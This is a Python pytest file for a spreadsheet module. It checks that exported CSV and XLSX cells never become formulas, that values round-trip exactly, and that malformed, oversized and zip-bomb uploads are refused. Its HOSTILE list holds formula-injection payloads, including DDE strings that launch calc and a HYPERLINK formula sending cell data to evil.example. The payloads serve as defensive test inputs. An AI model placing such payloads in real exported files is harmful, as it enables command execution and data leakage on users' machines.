"""Files for spreadsheets: safe to open, exact when they come back, small in memory."""

from __future__ import annotations

import csv
import io
import tracemalloc
import zipfile
from collections.abc import Iterable, Sequence
from datetime import UTC, datetime
from decimal import Decimal
from typing import Any
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from common.errors import InvalidInputError
from common.sheets import reading
from common.sheets.cells import clean_text, natural, neutral
from common.sheets.reading import Sheet, sheet_read
from common.sheets.writing import csv_chunks, xlsx_chunks

pytestmark = [pytest.mark.unit, pytest.mark.once]

BERLIN = ZoneInfo("Europe/Berlin")
HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "'=1+1",
    "''=1+1",
]


def csv_of(rows: Iterable[Sequence[Any]], head: Sequence[str] = ("name", "number")) -> bytes:
    return b"".join(csv_chunks(head, rows, zone=BERLIN))


def xlsx_of(rows: Iterable[Sequence[Any]], head: Sequence[str] = ("name", "number")) -> bytes:
    return b"".join(xlsx_chunks("things", head, rows, zone=BERLIN))


def read(data: bytes, most_rows: int = 100) -> Sheet:
    return sheet_read(data, most_rows=most_rows)


def refusal(data: bytes, **options: Any) -> str:
    with pytest.raises(InvalidInputError) as caught:
        read(data, **options)
    return caught.value.message


# --- Formulas ------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", HOSTILE)
def test_no_cell_of_a_csv_file_is_a_formula(name: str) -> None:
    _, row = csv.reader(io.StringIO(csv_of([(name, 1)]).decode("utf-8-sig"), newline=""))
    assert row[0] == f"'{name}"


@pytest.mark.parametrize("name", HOSTILE)
def test_no_cell_of_an_xlsx_file_is_a_formula(name: str) -> None:
    with zipfile.ZipFile(io.BytesIO(xlsx_of([(name, 1)]))) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
    cell = openpyxl.load_workbook(io.BytesIO(xlsx_of([(name, 1)]))).active["A2"]
    assert cell.data_type == "s" or str(cell.value).startswith("=")  # text, whatever it says


def test_heads_and_values_inside_are_safe_as_they_are() -> None:
    assert neutral("a=b") == "a=b"
    assert neutral("it's") == "it's"
    assert neutral("") == ""


@given(st.text())
def test_what_is_made_safe_says_the_same_when_it_is_read(text: str) -> None:
    assert natural(neutral(text)) == text


@settings(max_examples=25, deadline=None)
@given(st.lists(st.text(alphabet=st.characters(codec="utf-8", exclude_characters="\r\n\0")
                        | st.sampled_from("=+-@'\",;\t"), min_size=1, max_size=12)
                .map(clean_text).map(str.strip).filter(bool), min_size=1, max_size=4))  # fmt: skip
def test_a_file_that_comes_back_says_what_it_said(names: list[str]) -> None:
    rows = [(name, number) for number, name in enumerate(names)]
    for made in (csv_of(rows), xlsx_of(rows)):
        found = [(line.cells["name"], line.cells["number"]) for line in read(made).lines]
        assert found == [(name, str(number)) for name, number in rows]


@pytest.mark.parametrize("write", [csv_of, xlsx_of])
def test_hostile_names_come_back_as_they_were(write: Any) -> None:
    names = [name for name in HOSTILE if name == name.strip()]
    assert [line.cells["name"] for line in read(write([(one, 1) for one in names])).lines] == names


# --- Values --------------------------------------------------------------------------------------


def test_numbers_stay_numbers_and_unknown_is_an_empty_cell() -> None:
    row = ("-5", -5, 0, Decimal("4.50"), None, True, False)
    head = ("text", "number", "zero", "price", "unknown", "yes", "no")
    _, line = csv_of([row], head).decode("utf-8-sig").splitlines()
    assert line == "'-5,-5,0,4.50,,true,false"
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_of([row], head))).active
    assert [cell.value for cell in sheet[2]] == ["-5", -5, 0, 4.5, None, True, False]


def test_times_carry_the_offset_of_the_viewer() -> None:
    summer = datetime(2026, 7, 1, 12, 0, 0, 500, tzinfo=UTC)
    winter = datetime(2026, 1, 1, 12, 0, tzinfo=UTC)
    text = csv_of([(summer, winter)]).decode("utf-8-sig").splitlines()[1]
    assert text == "2026-07-01 14:00:00+02:00,2026-01-01 13:00:00+01:00"


def test_excel_knows_the_letters_and_lists_are_joined() -> None:
    made = csv_of([(["vps", "中文"], "Привет")])
    assert made.startswith(b"\xef\xbb\xbf")
    assert '\r\n"vps, 中文",Привет\r\n' in made.decode("utf-8-sig")


def test_letters_no_file_holds_are_left_out_and_no_cell_is_too_long() -> None:
    assert clean_text("a\x00\x0b\ud800b") == "ab"
    assert len(clean_text("x" * 40_000)) == 32_767
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_of([("<b>&\"'\x01", 1)]))).active
    assert sheet["A2"].value == "<b>&\"'"


def test_more_columns_than_the_alphabet_has_letters() -> None:
    head = [f"c{number}" for number in range(60)]
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_of([range(60)], head))).active
    assert sheet["BH2"].value == 59
    assert sheet.title == "things"


@pytest.mark.parametrize("write", [csv_of, xlsx_of])
def test_memory_does_not_grow_with_the_rows(write: Any) -> None:
    chunks = csv_chunks if write is csv_of else lambda *a, **k: xlsx_chunks("t", *a, **k)
    rows = ((f"Product {number}", number) for number in range(5_000))
    tracemalloc.start()
    size = sum(len(chunk) for chunk in chunks(("name", "number"), rows, zone=BERLIN))
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert size > 20_000
    assert peak < 700_000


# --- Reading -------------------------------------------------------------------------------------


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_csv_is_read_whatever_stands_between_the_cells(delimiter: str) -> None:
    text = (
        delimiter.join(["Name", "Poll Interval"]) + "\n" + delimiter.join(["Shop", "60"]) + "\n\n"
    )
    for encoding in ("utf-8", "utf-8-sig", "utf-16"):
        sheet = read(text.encode(encoding))
        assert sheet.columns == ("name", "poll_interval")
        assert [line.cells for line in sheet.lines] == [{"name": "Shop", "poll_interval": "60"}]


def test_lines_are_counted_like_the_spreadsheet_does() -> None:
    sheet = read(b'name,notes\n\nA,"two\nlines"\nB,\n')
    assert [(line.number, line.cells["name"]) for line in sheet.lines] == [(3, "A"), (5, "B")]


def test_xlsx_of_others_is_read_with_its_numbers_as_people_see_them() -> None:
    book = openpyxl.Workbook()
    for row in (
        ["product_id", "threshold_low", "is_active"],
        [12, 3.0, True],
        [None] * 3,
        ["x", 0.5],
    ):
        book.active.append(row)
    file = io.BytesIO()
    book.save(file)
    lines = read(file.getvalue()).lines
    assert [line.number for line in lines] == [2, 4]
    assert list(lines[0].cells.values()) == ["12", "3", "true"]
    assert list(lines[1].cells.values()) == ["x", "0.5", ""]


@pytest.mark.parametrize(
    ("data", "told"),
    [
        (b"", "first line must name the columns"),
        (b"a,b,a\n1,2,3", "column a is there twice"),
        (b"a,,c\n", "Column 2 has no name"),
        (b"a\n1,2\n", "Line 2 has more cells"),
        (b'a,b\n"1,2\n', "cannot be read as CSV"),
        (b"a\n\xff\xfe\xfd", "CSV UTF-8"),
        (b"a\n\x00", "CSV UTF-8"),
        (b"PK\x03\x04 and no zip", "damaged"),
        (",".join(f"c{n}" for n in range(101)).encode(), "more than 100 columns"),
        (b"a\n" + b"1\n" * 101, "more than 100 rows"),
    ],
)
def test_a_file_that_cannot_be_taken_says_why(data: bytes, told: str) -> None:
    assert told in refusal(data)


def test_large_files_and_zip_bombs_are_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(reading, "MOST_BYTES", 1000)
    assert "larger than" in refusal(b"a\n" + b"1" * 1000)
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b"0" * 300_000)
    monkeypatch.setattr(reading, "MOST_UNPACKED", 200_000)
    assert "too large when it is unpacked" in refusal(bomb.getvalue())


def test_a_zip_that_is_no_sheet_is_refused() -> None:
    other = io.BytesIO()
    with zipfile.ZipFile(other, "w") as archive:
        archive.writestr("hello.txt", "hello")
    assert "Save it anew" in refusal(other.getvalue())
